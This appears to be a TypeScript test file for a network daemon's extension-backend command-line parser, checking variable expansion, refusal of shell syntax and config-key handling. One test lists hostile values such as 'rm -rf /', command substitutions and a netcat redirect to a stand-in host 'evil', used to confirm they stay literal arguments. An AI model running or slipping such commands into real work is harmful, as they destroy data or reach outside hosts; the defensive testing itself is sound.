// biome-ignore-all lint/suspicious/noTemplateCurlyInString: command lines use ${NAME} as flannel configs do
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import {
  type CommandLine,
  expandCommandLine,
  parseCommandLine,
  trimSpace,
} from "../../src/backend/extension/command-line.js";
import { parseExtensionConfig } from "../../src/backend/extension/extension-config.js";
import { ConfigError } from "../../src/config/network-config.js";

function parsed(text: string): CommandLine {
  const result = parseCommandLine(text);
  if (!result.ok) assert.fail(`${JSON.stringify(text)} was refused: ${result.problem}`);
  return result.command;
}

function problem(text: string): string {
  const result = parseCommandLine(text);
  if (result.ok)
    assert.fail(`${JSON.stringify(text)} was accepted as ${JSON.stringify(result.command.words)}`);
  return result.problem;
}

const expand = (text: string, vars: Record<string, string>) =>
  expandCommandLine(parsed(text), (name) => vars[name]);

describe("extension command lines: splitting and expansion", () => {
  it("splits on any run of whitespace, as Go's strings.Fields", () => {
    assert.deepEqual(expand("  /bin/add.sh\t-v \u00a0 --x  ", {}), {
      program: "/bin/add.sh",
      args: ["-v", "--x"],
    });
  });

  it("expands $NAME and ${NAME} inside a word, each word one argument", () => {
    const vars = { SUBNET: "10.244.1.0/24", PUBLIC_IP: "172.31.0.2", A_1: "x" };
    assert.deepEqual(expand("ip route add $SUBNET via ${PUBLIC_IP} dev=$A_1/${A_1}z", vars), {
      program: "ip",
      args: ["route", "add", "10.244.1.0/24", "via", "172.31.0.2", "dev=x/xz"],
    });
  });

  it("the longest name wins after $, as in sh: $SUBNETX is SUBNETX, not SUBNET + X", () => {
    assert.deepEqual(expand("p $SUBNETX ${SUBNET}X", { SUBNET: "s" }).args, ["", "sX"]);
  });

  it("an unset variable becomes an empty argument, never a dropped one", () => {
    assert.deepEqual(expand("p $UNSET last", {}).args, ["", "last"]);
  });

  it("a plain dollar stays a dollar", () => {
    assert.deepEqual(expand("p $ a$ $/x $.", {}).args, ["$", "a$", "$/x", "$."]);
  });

  it("expands variables in the program word too (e.g. a script under $HOME)", () => {
    assert.equal(expand("$HOME/bin/add", { HOME: "/root" }).program, "/root/bin/add");
  });
});

describe("extension command lines: values from lease data stay literal", () => {
  // Each hostile value must arrive as exactly the one argument its word stands for, byte for byte.
  const hostile = [
    "10.244.1.0/24; rm -rf /",
    "10.244.1.0/24 && touch /tmp/owned",
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "a b\tc\nd",
    "'quoted' \"double\"",
    "${PUBLIC_IP}",
    "$PUBLIC_IP",
    "| nc evil 1 > /etc/passwd",
    "*",
    "",
    "\u0000\u2028",
  ];
  for (const value of hostile) {
    it(`SUBNET=${JSON.stringify(value)} is one argument`, () => {
      const vars = { SUBNET: value, PUBLIC_IP: "172.31.0.2" };
      assert.deepEqual(expand("/usr/local/bin/add $SUBNET --via=${PUBLIC_IP}", vars), {
        program: "/usr/local/bin/add",
        args: [value, "--via=172.31.0.2"],
      });
      assert.deepEqual(expand("/usr/local/bin/add pre${SUBNET}post", vars).args, [`pre${value}post`]);
    });
  }

  it("a value that names another variable is not expanded again", () => {
    assert.deepEqual(expand("p $A", { A: "$B", B: "secret" }).args, ["$B"]);
  });
});

describe("extension command lines: shell syntax is refused with what it is", () => {
  const cases: [string, RegExp][] = [
    ["ip route add $SUBNET; echo done", /command separator \(";"\)/],
    ["a\nb", /line break/],
    ["a | b", /a pipe/],
    ["a && b", /&& or a background job/],
    ["a &", /&& or a background job/],
    ["a > /tmp/x", /a redirection \(">"\)/],
    ["a 2>/dev/null", /a redirection/],
    ["a < in", /a redirection \("<"\)/],
    ["a $(cat x)", /a command substitution \("\$\("\)/],
    ["a `cat x`", /a command substitution \("`"\)/],
    ['ip route add "$SUBNET"', /quotes \("\\""\)/],
    ["echo 'x'", /quotes \("'"\)/],
    ["echo a\\ b", /backslash/],
    ["ls *.sh", /glob pattern \("\*"\)/],
    ["ls a?", /glob pattern/],
    ["ls [ab]", /glob pattern/],
    ["echo ${X:-y}", /parameter expansion other than \$\{NAME\} \("\$\{X:-y\}"\)/],
    ["echo ${#X}", /parameter expansion/],
    ["echo $1", /special parameter \("\$1"\)/],
    ["echo $?", /special parameter|glob/],
    ["echo $$", /special parameter \("\$\$"\)/],
    ["export X=1", /shell built-in \("export"\)/],
    ["read VTEP", /shell built-in \("read"\)/],
    ["cd /tmp", /shell built-in/],
    ["X=1 /bin/a", /variable assignment \("X=1"\)/],
    ["~/bin/add", /home directory/],
    ["a #comment", /a comment/],
    ["a (b)", /subshell/],
  ];
  for (const [text, expected] of cases) {
    it(JSON.stringify(text), () => assert.match(problem(text), expected));
  }

  it("an = after the program is an ordinary argument", () => {
    assert.deepEqual(expand("/bin/a X=1 --dev=$D", { D: "eth0" }).args, ["X=1", "--dev=eth0"]);
  });

  it("names at most three constructs", () => {
    const text = problem("a; b | c && d > e");
    assert.equal(text.split("), ").length, 3, text);
  });

  it("a blank command is refused", () => {
    assert.match(problem(" \t "), /blank/);
  });

  it("flannel's documented vxlan example gets one clear config error naming the key", () => {
    const backend = {
      Type: "extension",
      PreStartupCommand:
        'export VNI=1; export IF_NAME=flannel-vxlan; ip link del "$IF_NAME" 2>/dev/null; cat "/sys/class/net/${IF_NAME}/address"',
      SubnetAddCommand: "/usr/local/bin/add",
    };
    assert.throws(
      () => parseExtensionConfig(backend),
      (err: unknown) => {
        assert.ok(err instanceof ConfigError);
        assert.match(err.message, /Backend\.PreStartupCommand of the extension backend uses shell syntax/);
        assert.match(err.message, /without a shell/);
        assert.match(err.message, /executable script/);
        assert.equal(err.message.includes("\n"), false);
        return true;
      },
    );
  });
});

describe("extension config", () => {
  it("reads the four keys case-insensitively; empty or absent means not configured", () => {
    const config = parseExtensionConfig({
      type: "extension",
      prestartupcommand: "/bin/pre",
      PostStartupCommand: "",
      SubnetAddCommand: "/bin/add $SUBNET",
      SubnetRemoveCommand: null,
    });
    assert.equal(config.preStartup?.text, "/bin/pre");
    assert.equal(config.postStartup, undefined);
    assert.equal(config.subnetAdd?.text, "/bin/add $SUBNET");
    assert.equal(config.subnetRemove, undefined);
  });

  it("a command that is not a string names the key", () => {
    assert.throws(
      () => parseExtensionConfig({ SubnetAddCommand: ["/bin/add"] }),
      /Backend\.SubnetAddCommand of the extension backend must be a string, not an array of 1/,
    );
  });
});

describe("trimSpace is Go's strings.TrimSpace", () => {
  it("trims Unicode spaces and NEL but keeps a byte-order mark", () => {
    assert.equal(trimSpace("\n\t aa:bb \u0085\u3000"), "aa:bb");
    assert.equal(trimSpace("\ufeffx"), "\ufeffx");
  });
});
